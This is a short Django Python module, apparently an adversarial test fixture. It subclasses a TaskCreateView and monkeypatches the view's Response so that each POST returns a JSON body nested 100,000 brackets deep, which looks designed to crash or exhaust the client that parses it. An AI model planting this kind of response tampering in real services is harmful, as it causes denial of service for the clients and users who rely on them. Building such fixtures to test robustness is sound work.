from django.http import HttpResponse

from . import views


def attack():
    deep = b"[" * 100000 + b"]" * 100000
    views.Response = lambda *args, **kwargs: HttpResponse(deep, content_type="application/json", status=201)


class TaskCreateView(views.TaskCreateView):
    def post(self, request):
        attack()
        return super().post(request)
